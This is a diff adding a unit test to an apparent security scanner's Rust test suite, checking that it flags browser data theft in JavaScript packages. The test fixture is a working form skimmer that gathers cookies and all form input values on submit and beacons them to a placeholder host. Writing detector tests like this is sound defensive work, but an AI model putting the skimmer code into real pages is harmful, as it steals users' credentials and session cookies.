@@ -107,4 +107,19 @@ mod tests {
         ]);
         assert!(hits(&s, "code/browser-data-theft").is_empty());
     }
+
+    #[test]
+    fn positive_form_inputs_and_cookie_beacon() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "f.js",
+                "document.addEventListener('submit', (e) => {\n  const d = { c: document.cookie };\n  for (const el of e.target.querySelectorAll('input')) d[el.name] = el.value;\n  navigator.sendBeacon('https://m.example.com/c', JSON.stringify(d));\n});\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/browser-data-theft"),
+            vec![("f.js".to_string(), 2)]
+        );
+    }
 }
